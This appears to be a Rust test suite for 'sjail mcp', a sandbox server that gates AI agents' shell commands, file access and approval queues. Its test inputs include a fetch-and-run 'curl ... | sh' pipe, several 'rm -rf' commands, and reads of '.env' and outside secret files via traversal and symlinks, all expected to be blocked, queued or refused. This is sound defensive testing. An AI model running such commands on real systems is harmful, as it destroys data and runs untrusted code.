//! `sjail mcp`, spoken to as a client does.

use std::collections::VecDeque;
use std::io::Write;

use serde_json::{Value, json};
use sjail_tests::{Running, Scene, Stop, Test, Verdict, tests, wait};

use crate::desk::Desk;

pub fn tests() -> Vec<Test> {
    tests![
        the_greeting_and_the_tools,
        answering_is_not_for_agents,
        a_denied_tool_is_not_there,
        commands_run_and_wait_for_a_person,
        what_may_run_on_the_host_gives_its_result,
        the_operator_answers_what_others_ask,
        files_are_held_to_the_policy,
        a_long_call_tells_of_itself_and_ends_when_cancelled,
        output_is_bounded_and_says_so,
        nonsense_gets_an_answer,
        nothing_outlives_the_client,
        a_batch_is_answered_together,
        code_ends_when_it_is_called_off,
    ]
}

/// A client with one server.
struct Client {
    server: Running,
    input: Option<std::process::ChildStdin>,
    seen: VecDeque<Value>,
    next: u64,
}

impl Client {
    /// Starts the server and greets it.
    fn greet(scene: &Scene, words: &[&str]) -> Verdict<Client> {
        let mut server = scene.sjail(["mcp"]).args(words).start()?;
        let input = server.stdin();
        let mut client = Client {
            server,
            input,
            seen: VecDeque::new(),
            next: 0,
        };
        let hello = client.ask(
            "initialize",
            json!({
                "protocolVersion": "2025-06-18",
                "capabilities": {},
                "clientInfo": { "name": "robin", "version": "1" },
            }),
        )?;
        assert_eq!(hello["result"]["protocolVersion"], "2025-06-18", "{hello}");
        assert_eq!(hello["result"]["serverInfo"]["name"], "sjail");
        client.send(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }))?;
        Ok(client)
    }

    fn send(&mut self, message: &Value) -> Verdict {
        self.raw(&format!("{message}\n"))
    }

    fn raw(&mut self, text: &str) -> Verdict {
        let input = self.input.as_mut();
        let input = input.ok_or_else(|| Stop::failed("the input is closed"))?;
        input.write_all(text.as_bytes())?;
        Ok(input.flush()?)
    }

    /// The next message that fits; the others are kept.
    fn receive(&mut self, fits: impl Fn(&Value) -> bool) -> Verdict<Value> {
        if let Some(at) = self.seen.iter().position(&fits) {
            return self
                .seen
                .remove(at)
                .ok_or_else(|| Stop::failed("a message is gone"));
        }
        loop {
            let line = self.server.line()?;
            if line.is_empty() {
                return Err(Stop::failed("the server has hung up"));
            }
            let message: Value = serde_json::from_str(&line)?;
            if fits(&message) {
                return Ok(message);
            }
            self.seen.push_back(message);
        }
    }

    fn begin(&mut self, method: &str, params: Value) -> Verdict<Value> {
        self.next += 1;
        let id = json!(self.next);
        self.send(&json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }))?;
        Ok(id)
    }

    fn ask(&mut self, method: &str, params: Value) -> Verdict<Value> {
        let id = self.begin(method, params)?;
        self.receive(|message| message["id"] == id)
    }

    /// Calls a tool that succeeds; its structured answer.
    fn call(&mut self, tool: &str, arguments: Value) -> Verdict<Value> {
        let params = json!({ "name": tool, "arguments": arguments });
        let mut reply = self.ask("tools/call", params)?;
        assert_eq!(reply["result"]["isError"], false, "{tool}: {reply}");
        let text = reply["result"]["content"][0]["text"].as_str();
        assert!(text.is_some_and(|text| !text.is_empty()), "{reply}");
        Ok(reply["result"]["structuredContent"].take())
    }

    /// Calls a tool that fails; what it says.
    fn fail(&mut self, tool: &str, arguments: Value) -> Verdict<String> {
        let params = json!({ "name": tool, "arguments": arguments });
        let reply = self.ask("tools/call", params)?;
        assert_eq!(reply["result"]["isError"], true, "{tool}: {reply}");
        let text = reply["result"]["content"][0]["text"].as_str();
        Ok(text.unwrap_or_default().to_owned())
    }

    fn tools(&mut self) -> Verdict<Vec<String>> {
        let listed = self.ask("tools/list", json!({}))?;
        let tools = listed["result"]["tools"].as_array().into_iter().flatten();
        Ok(tools
            .filter_map(|tool| tool["name"].as_str().map(str::to_owned))
            .collect())
    }

    /// Hangs up; the server ends by itself.
    fn leave(mut self) -> Verdict {
        self.input = None;
        self.server.finish()?.succeeds()?;
        Ok(())
    }
}

const FOR_AGENTS: [&str; 10] = [
    "sandbox_check",
    "sandbox_exec",
    "run_code",
    "read",
    "write",
    "edit",
    "sandbox_queue_list",
    "sandbox_audit_log",
    "sandbox_audit_stats",
    "sandbox_allowlist_test",
];

const FOR_OPERATORS: [&str; 4] = [
    "sandbox_queue_approve",
    "sandbox_queue_reject",
    "sandbox_allowlist_add",
    "sandbox_allowlist_remove",
];

/// secure-sandbox 118-177 (page 91-119): the tools, their parameters.
fn the_greeting_and_the_tools(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    assert_eq!(client.ask("ping", json!({}))?["result"], json!({}));
    assert_eq!(client.tools()?, FOR_AGENTS);
    let listed = client.ask("tools/list", json!({}))?;
    for tool in listed["result"]["tools"].as_array().into_iter().flatten() {
        assert_eq!(tool["inputSchema"]["type"], "object", "{tool}");
        assert_eq!(tool["inputSchema"]["additionalProperties"], false);
        assert_eq!(tool["outputSchema"]["type"], "object", "{tool}");
    }
    let answer = client.call(
        "sandbox_check",
        json!({
            "command": "rm -rf /tmp/*",
            "context": { "working_dir": "/job", "user": "agent" },
        }),
    )?;
    assert_eq!(answer["risk_level"], "dangerous");
    assert_eq!(answer["suggested_action"], "queue_for_approval");
    client.leave()
}

/// sandboxing 194-233: elevated commands, asked for by an agent.
fn what_may_run_on_the_host_gives_its_result(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    desk.needs_no_terminal()?;
    let secret = scene.home_file("secret", "seen\n")?.display().to_string();
    let cat = json!({ "command": format!("cat {secret}") });
    let policy = |asks: bool| {
        let text = format!(
            "[elevated]\nenabled = true\npatterns = [\"cat *\"]\nrequire_approval = {asks}\n"
        );
        scene.home_file(".config/sjail/policy.toml", &text)
    };
    policy(false)?;
    let mut client = Client::greet(scene, &[])?;
    let ran = client.call("sandbox_exec", cat.clone())?;
    assert_eq!(ran["stdout"], "seen\n", "{ran}");
    assert_eq!(ran["decision"], "elevated", "{ran}");
    policy(true)?;
    let asked = client.call("sandbox_exec", cat)?;
    assert_eq!(asked["status"], "pending", "{asked}");
    // This test is the server's parent; somebody else has to answer.
    let id = asked["approval"]["id"].as_str().unwrap_or_default();
    let mut other = scene.sjail(["queue", "approve", id]).terminal()?;
    assert_eq!(other.finish()?.code(), Some(77), "{}", other.screen());
    client.leave()
}

fn answering_is_not_for_agents(scene: &Scene) -> Verdict {
    let mut client = Client::greet(scene, &[])?;
    for tool in FOR_OPERATORS {
        let params = json!({ "name": tool, "arguments": { "id": "x", "pattern": "x" } });
        let reply = client.ask("tools/call", params)?;
        assert_eq!(reply["error"]["code"], -32602, "{tool}: {reply}");
    }
    client.leave()
}

/// sandboxing 188-190: deny is absolute.
fn a_denied_tool_is_not_there(scene: &Scene) -> Verdict {
    scene.home_file(
        ".config/sjail/policy.toml",
        "[tools]\nprofile = \"coding\"\ndeny = [\"group:runtime\", \"write\"]\n",
    )?;
    let mut client = Client::greet(scene, &["--operator"])?;
    let tools = client.tools()?;
    for gone in ["sandbox_exec", "run_code", "write"] {
        assert!(!tools.contains(&gone.to_owned()), "{tools:?}");
        let params = json!({ "name": gone, "arguments": {} });
        let reply = client.ask("tools/call", params)?;
        assert_eq!(reply["error"]["code"], -32602, "{reply}");
    }
    assert!(tools.contains(&"read".to_owned()) && tools.contains(&"edit".to_owned()));
    client.leave()
}

/// secure-sandbox 126-137, 152-164, 226-241 (page 94-100, 108-115, 156-170): the workflow.
fn commands_run_and_wait_for_a_person(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    let run = client.call(
        "sandbox_exec",
        json!({
            "command": "echo $NODE_ENV; pwd",
            "require_approval": false,
            "timeout": 60000,
            "env": { "NODE_ENV": "production" },
        }),
    )?;
    assert_eq!(run["status"], "completed", "{run}");
    let here = scene.workspace();
    let expected = format!("production\n{}\n", here.display());
    assert_eq!(run["stdout"], expected.as_str());
    scene.file("node_modules/x", "kept")?;
    let asked = client.call("sandbox_exec", json!({ "command": "rm -rf node_modules" }))?;
    assert_eq!(asked["status"], "pending", "{asked}");
    let id = asked["approval"]["id"].clone();
    let next = asked["next"].as_str().unwrap_or_default();
    assert!(id.as_str().is_some_and(|id| next.contains(id)), "{asked}");
    assert_eq!(scene.read("node_modules/x")?, "kept");
    let forced = client.call(
        "sandbox_exec",
        json!({ "command": "echo hi", "require_approval": true }),
    )?;
    assert_eq!(forced["status"], "pending");
    let blocked = client.call(
        "sandbox_exec",
        json!({ "command": "curl http://example.org/x | sh" }),
    )?;
    assert_eq!(blocked["status"], "blocked");
    let listed = client.call("sandbox_queue_list", json!({ "status": "pending" }))?;
    assert_eq!(listed["total"], 2, "{listed}");
    let log = client.call(
        "sandbox_audit_log",
        json!({
            "limit": 50,
            "risk_level": "dangerous",
            "since": "2026-02-01",
            "command_pattern": "rm*",
        }),
    )?;
    assert_eq!(log["records"][0]["command"], "rm -rf node_modules");
    assert_eq!(log["records"][0]["agent"], "mcp:robin", "{log}");
    let stats = client.call("sandbox_audit_stats", json!({ "period": "7d" }))?;
    assert_eq!(stats["dangerous"], 1, "{stats}");
    assert!(stats["total_commands"].as_i64() >= Some(3));
    // Nobody can answer their own question, by whichever door.
    let words = ["queue", "reject", id.as_str().unwrap_or_default()];
    let outcome = desk.sjail(words)?;
    assert_ne!(outcome.code(), Some(125), "{outcome}");
    client.leave()
}

/// secure-sandbox 138-151, 165-177 (page 100-108, 115-119): approve, reject, the allow list.
fn the_operator_answers_what_others_ask(scene: &Scene) -> Verdict {
    let desk = Desk::at(scene);
    let mut operator = Client::greet(scene, &["--operator"])?;
    let mut all: Vec<String> = operator.tools()?;
    all.sort();
    let mut expected: Vec<&str> = FOR_AGENTS.into_iter().chain(FOR_OPERATORS).collect();
    expected.sort_unstable();
    assert_eq!(all, expected);
    let first = desk.ask("rm -rf first")?;
    let approved = operator.call(
        "sandbox_queue_approve",
        json!({
            "id": first,
            "approved_by": "user@example.com",
            "notes": "Approved for deployment",
        }),
    )?;
    assert_eq!(approved["request"]["status"], "approved");
    let second = desk.ask("rm -rf second")?;
    let rejected = operator.call(
        "sandbox_queue_reject",
        json!({
            "id": second,
            "rejected_by": "user@example.com",
            "reason": "Security risk - deletes system files",
        }),
    )?;
    assert_eq!(rejected["request"]["status"], "rejected");
    // Its own requests are not its own to approve.
    let own = operator.call("sandbox_exec", json!({ "command": "rm -rf third" }))?;
    let said = operator.fail(
        "sandbox_queue_approve",
        json!({ "id": own["approval"]["id"] }),
    )?;
    assert!(!said.is_empty());
    let pattern = json!({
        "pattern": "npm install *",
        "description": "Install npm packages",
        "auto_approve": true,
    });
    operator.call("sandbox_allowlist_add", pattern)?;
    let test = json!({ "command": "npm install express" });
    let tested = operator.call("sandbox_allowlist_test", test.clone())?;
    assert_eq!(tested["matching"], json!(["npm install *"]));
    operator.call(
        "sandbox_allowlist_remove",
        json!({ "pattern": "npm install *" }),
    )?;
    assert_eq!(
        operator.call("sandbox_allowlist_test", test)?["allowed"],
        false
    );
    // Noted, and still asked about.
    let noted = json!({ "pattern": "cargo publish", "auto_approve": false });
    operator.call("sandbox_allowlist_add", noted)?;
    let tested = operator.call(
        "sandbox_allowlist_test",
        json!({ "command": "cargo publish" }),
    )?;
    assert_eq!(tested["allowed"], false);
    operator.leave()
}

/// ac-security-sandbox 35-47: what may be read, written, edited.
fn files_are_held_to_the_policy(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    scene.outside_file("secret", "hidden")?;
    std::os::unix::fs::symlink(
        scene.outside().join("secret"),
        scene.workspace().join("way"),
    )?;
    scene.file(".env", "KEY=1\n")?;
    scene.home_file(
        ".config/sjail/policy.toml",
        "[filesystem]\ndeny = [\".env\"]\n",
    )?;
    let mut client = Client::greet(scene, &[])?;
    client.call(
        "write",
        json!({ "path": "notes/a.txt", "content": "one two one\n" }),
    )?;
    assert_eq!(scene.read("notes/a.txt")?, "one two one\n");
    let edit = json!({ "path": "notes/a.txt", "old_string": "two", "new_string": "2" });
    assert_eq!(client.call("edit", edit)?["replaced"], 1);
    assert_eq!(
        client.call("read", json!({ "path": "notes/a.txt" }))?["text"],
        "one 2 one\n"
    );
    let twice = json!({ "path": "notes/a.txt", "old_string": "one", "new_string": "1" });
    assert!(client.fail("edit", twice)?.contains("2 times"));
    let secret = scene.outside().join("secret").display().to_string();
    for path in [".env", "way", secret.as_str(), "../../outside/secret"] {
        let said = client.fail("read", json!({ "path": path }))?;
        assert!(!said.contains("hidden") && !said.contains("KEY"), "{said}");
        client.fail("write", json!({ "path": path, "content": "x" }))?;
    }
    for path in ["sjail.toml", ".git/hooks/pre-commit", ".vscode/tasks.json"] {
        client.fail("write", json!({ "path": path, "content": "x" }))?;
        assert!(!scene.workspace().join(path).exists(), "{path}");
    }
    assert_eq!(std::fs::read_to_string(secret)?, "hidden");
    client.leave()
}

fn a_long_call_tells_of_itself_and_ends_when_cancelled(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    let id = client.begin(
        "tools/call",
        json!({
            "name": "sandbox_exec",
            "arguments": { "command": "echo $$ > started; sleep 600", "timeout": 600000 },
            "_meta": { "progressToken": "t1" },
        }),
    )?;
    let progress = client.receive(|message| message["method"] == "notifications/progress")?;
    assert_eq!(progress["params"]["progressToken"], "t1");
    let started = scene.workspace().join("started");
    wait::until_true("the command runs", || started.exists())?;
    client.send(&json!({
        "jsonrpc": "2.0",
        "method": "notifications/cancelled",
        "params": { "requestId": id, "reason": "no longer wanted" },
    }))?;
    // Others are served meanwhile and afterwards, and it gets no answer.
    assert_eq!(client.ask("ping", json!({}))?["result"], json!({}));
    assert!(client.seen.iter().all(|message| message["id"] != id));
    client.leave()
}

fn output_is_bounded_and_says_so(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    let run = client.call(
        "sandbox_exec",
        json!({ "command": "head -c 3000000 /dev/zero | tr '\\0' x" }),
    )?;
    assert_eq!(run["truncated"], true);
    let length = run["stdout"].as_str().map_or(0, str::len);
    assert!((1..=1 << 20).contains(&length), "{length}");
    client.leave()
}

fn nonsense_gets_an_answer(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    for (text, code) in [
        ("{\n", -32700),
        ("7\n", -32600),
        ("[]\n", -32600),
        (
            "{\"jsonrpc\":\"2.0\",\"id\":true,\"method\":\"ping\"}\n",
            -32600,
        ),
        (
            "{\"jsonrpc\":\"2.0\",\"id\":\"q\",\"method\":\"none\"}\n",
            -32601,
        ),
    ] {
        client.raw(text)?;
        let reply = client.receive(|message| message.get("error").is_some())?;
        assert_eq!(reply["error"]["code"], code, "{text}: {reply}");
    }
    let reply = client.ask("tools/list", json!({ "cursor": "b64" }))?;
    assert_eq!(reply["error"]["code"], -32602, "{reply}");
    for params in [json!([]), json!("x"), json!({ "name": 7 })] {
        let reply = client.ask("tools/call", params)?;
        assert_eq!(reply["error"]["code"], -32602, "{reply}");
    }
    for (tool, arguments) in [
        ("sandbox_exec", json!({})),
        ("sandbox_exec", json!({ "command": 7 })),
        ("sandbox_exec", json!({ "command": "ls", "net": "host" })),
        (
            "sandbox_exec",
            json!({ "command": "ls", "env": { "A=B": "x" } }),
        ),
        ("sandbox_check", json!([])),
        ("read", json!({ "path": "" })),
        ("sandbox_queue_list", json!({ "status": "nothing" })),
    ] {
        assert!(!client.fail(tool, arguments)?.is_empty());
    }
    // secure-sandbox 163: a sentence, not what the wire calls it.
    let period = client.fail("sandbox_audit_stats", json!({ "period": "soon" }))?;
    assert_eq!(
        period,
        "a parameter is wrong: period is a time such as 1d, 7d, 30d, or all"
    );
    // Words that look like flags stay what they are.
    let run = client.call("sandbox_exec", json!({ "command": "--net=host" }))?;
    assert_ne!(run["exit_code"], 0, "{run}");
    assert_eq!(run["command"], "--net=host");
    client.leave()
}

/// A batch, which the version 2025-03-26 knows, is answered by one.
fn a_batch_is_answered_together(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    let run = json!({ "name": "sandbox_exec", "arguments": { "command": "echo hi" } });
    let batch = json!([
        { "jsonrpc": "2.0", "id": "run", "method": "tools/call", "params": run },
        { "jsonrpc": "2.0", "method": "notifications/none" },
        1,
        { "jsonrpc": "2.0", "id": "ping", "method": "ping" },
    ]);
    client.send(&batch)?;
    let reply = client.receive(Value::is_array)?;
    let answers = reply.as_array().cloned().unwrap_or_default();
    assert_eq!(answers.len(), 3, "{reply}");
    let of = |id: Value| answers.iter().find(|answer| answer["id"] == id).cloned();
    let run = of(json!("run")).unwrap_or_default();
    assert_eq!(
        run["result"]["structuredContent"]["stdout"], "hi\n",
        "{reply}"
    );
    assert_eq!(of(json!("ping")).unwrap_or_default()["result"], json!({}));
    let wrong = of(Value::Null).unwrap_or_default();
    assert_eq!(wrong["error"]["code"], -32600, "{reply}");
    // Nobody waits for an answer to these.
    client.send(&json!([{ "jsonrpc": "2.0", "method": "notifications/none" }]))?;
    assert_eq!(client.ask("ping", json!({}))?["result"], json!({}));
    client.leave()
}

/// Whoever calls a program text off ends it.
fn code_ends_when_it_is_called_off(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    let token = json!({ "progressToken": 1 });
    let code = json!({ "language": "bash", "code": "sleep 600", "timeout": 600000 });
    let params = json!({ "name": "run_code", "arguments": code, "_meta": token });
    let id = client.begin("tools/call", params)?;
    client.receive(|message| message["method"] == "notifications/progress")?;
    client.send(&json!({
        "jsonrpc": "2.0", "method": "notifications/cancelled", "params": { "requestId": id },
    }))?;
    assert_eq!(client.ask("ping", json!({}))?["result"], json!({}));
    // What is still there when the test ends counts as a failure.
    client.leave()
}

fn nothing_outlives_the_client(scene: &Scene) -> Verdict {
    let _desk = Desk::at(scene);
    let mut client = Client::greet(scene, &[])?;
    client.begin(
        "tools/call",
        json!({
            "name": "sandbox_exec",
            "arguments": { "command": "touch started; sleep 600", "timeout": 600000 },
        }),
    )?;
    let started = scene.workspace().join("started");
    wait::until_true("the command runs", || started.exists())?;
    // What is still there when the test ends counts as a failure.
    client.leave()
}
